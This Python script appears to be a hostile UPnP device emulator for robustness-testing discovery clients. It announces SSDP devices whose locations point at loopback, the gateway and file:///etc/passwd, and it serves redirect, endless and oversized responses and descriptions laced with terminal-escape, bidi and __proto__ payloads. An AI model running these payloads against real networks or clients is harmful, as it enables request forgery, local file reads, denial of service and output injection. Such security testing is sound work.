"""UPnP devices that mean ill, on `eth0`: python3 hostile-upnp.py OWN_ADDRESS GATEWAY_PORT. Serves bad descriptions on port 8008, and announces one device for each
every second: some at places that are not its own. Prints a line for each description that was asked for."""

import socket
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

own, port = sys.argv[1], sys.argv[2]
# C1 controls are legal in XML 1.0: the first one steers a terminal like ESC [.
name = "\u009b2J\u0085\u202e__proto__\u2066" + "x" * 10000
description = f"""<?xml version="1.0"?><root xmlns="urn:schemas-upnp-org:device-1-0"><specVersion><major>1</major><minor>0</minor></specVersion>
<device><deviceType>urn:schemas-upnp-org:device:Basic:1</deviceType><friendlyName>{name}</friendlyName>
<manufacturer>\u202econstructor</manufacturer><modelName>__proto__</modelName><UDN>uuid:bad00000-0000-4000-8000-000000000009</UDN></device></root>"""
places = [
    "http://127.0.0.1:" + port + "/loopback",
    "http://localhost:" + port + "/loopback",
    "http://10.77.0.1:" + port + "/gateway",
    "http://[::ffff:10.77.0.1]:" + port + "/gateway",
    f"http://{own}@10.77.0.1:" + port + "/gateway",
    "file:///etc/passwd",
    f"http://{own}:8008/redirect",
    f"http://{own}:8008/endless",
    f"http://{own}:8008/huge",
    f"http://{own}:8008/names",
]


class Bad(BaseHTTPRequestHandler):
    def do_GET(self):
        print(f"asked for {self.path}", flush=True)
        try:
            if self.path == "/redirect":
                self.send_response(302)
                self.send_header("Location", f"http://10.77.0.1:{port}/redirected")
                self.end_headers()
                return
            self.send_response(200)
            self.send_header("Content-Type", "text/xml")
            if self.path == "/huge":
                self.send_header("Content-Length", str(100 << 20))
            self.end_headers()
            if self.path == "/names":
                self.wfile.write(description.encode())
            elif self.path == "/huge":
                for _ in range(100):
                    self.wfile.write(b"<a/>" * (1 << 18))
            elif self.path == "/endless":
                while True:
                    self.wfile.write(b"<a>")
                    time.sleep(0.05)
        except (BrokenPipeError, ConnectionResetError):
            print(f"cut off {self.path}", flush=True)

    def log_message(self, *_):
        pass


server = ThreadingHTTPServer((own, 8008), Bad)
threading.Thread(target=server.serve_forever, daemon=True).start()
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 4)
sock.bind((own, 0))
print("ready", flush=True)
while True:
    for at, place in enumerate(places):
        lines = [
            "NOTIFY * HTTP/1.1",
            "HOST: 239.255.255.250:1900",
            "CACHE-CONTROL: max-age=1800",
            f"LOCATION: {place}",
            "NT: upnp:rootdevice",
            "NTS: ssdp:alive",
            "SERVER: \x1b[31mred\x1b[0m/1.0 UPnP/1.1 __proto__/1.0",
            f"USN: uuid:bad00000-0000-4000-8000-{at:012x}::upnp:rootdevice",
        ]
        sock.sendto("\r\n".join([*lines, "", ""]).encode("latin1"), ("239.255.255.250", 1900))
    time.sleep(1)
